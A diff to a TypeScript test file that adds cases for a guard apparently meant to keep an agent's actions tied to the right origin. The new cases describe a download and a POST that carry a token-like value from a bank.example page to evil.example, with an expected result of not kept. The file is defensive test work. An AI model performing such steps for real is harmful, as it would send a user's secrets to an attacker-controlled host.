@@ -25,6 +25,18 @@ it.each<[what: string, step: HoldingAction, page: string, isKept: boolean]>([
     "https://bank.example/",
     false,
   ],
+  [
+    "a download from an address that holds one",
+    { action: "download", params: { url: "https://evil.example/?q=abcdef123456" } },
+    "https://bank.example/",
+    false,
+  ],
+  [
+    "a request that was led elsewhere with its body",
+    { action: "api_request", request: { url: "https://evil.example/", method: "POST", body: "token=abcdef123456" } },
+    "https://bank.example/",
+    false,
+  ],
   ["what holds none", { action: "goto", params: { url: "https://evil.example/" } }, "about:blank", true],
 ])("%s stays with the origins that it is for", (_, step, page, isKept) => {
   let reason = "";
